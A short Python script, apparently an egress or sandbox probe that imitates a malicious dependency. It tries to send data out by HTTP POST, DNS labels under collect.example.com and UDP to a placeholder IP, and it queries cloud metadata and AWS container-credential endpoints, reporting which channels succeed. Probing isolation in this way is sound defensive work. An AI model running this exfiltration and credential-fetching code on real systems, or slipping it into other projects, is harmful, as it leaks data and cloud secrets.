"""What a malicious dependency does: tries every plain way to carry data out. Errors stay silent, as such code keeps them."""
import contextlib
import os
import socket
import urllib.request


def phone_home(target, rounds, data=b"training data"):
    """Tries HTTP, HTTPS, DNS labels, UDP, instance metadata and the container credentials; prints what got through."""
    reached = []
    for _ in range(int(rounds)):
        for port in (80, 443):
            with contextlib.suppress(OSError), socket.create_connection((target, port), timeout=2) as connection:
                connection.sendall(b"POST /collect HTTP/1.0\r\nContent-Length: %d\r\n\r\n" % len(data) + data)
                reached.append(f"tcp {target}:{port}")
        with contextlib.suppress(OSError):
            socket.getaddrinfo(f"{data[:16].hex()}.collect.example.com", 443)
            reached.append("dns labels")
        with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagram:
            datagram.sendto(data[:512], ("198.51.100.53", 53))
            reached.append("udp 198.51.100.53:53")
        for url in ("http://169.254.169.254/latest/meta-data/", "http://169.254.170.2" + os.environ.get("AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", "/")):
            with contextlib.suppress(OSError), urllib.request.urlopen(url, timeout=2):
                reached.append(url.split("/")[2])
        with contextlib.suppress(OSError):
            socket.create_connection(("s3.us-east-1.amazonaws.com", 443), timeout=2).close()
            reached.append("s3")
    print(f"reached={len(reached)}; {', '.join(reached) or 'nothing'}", flush=True)
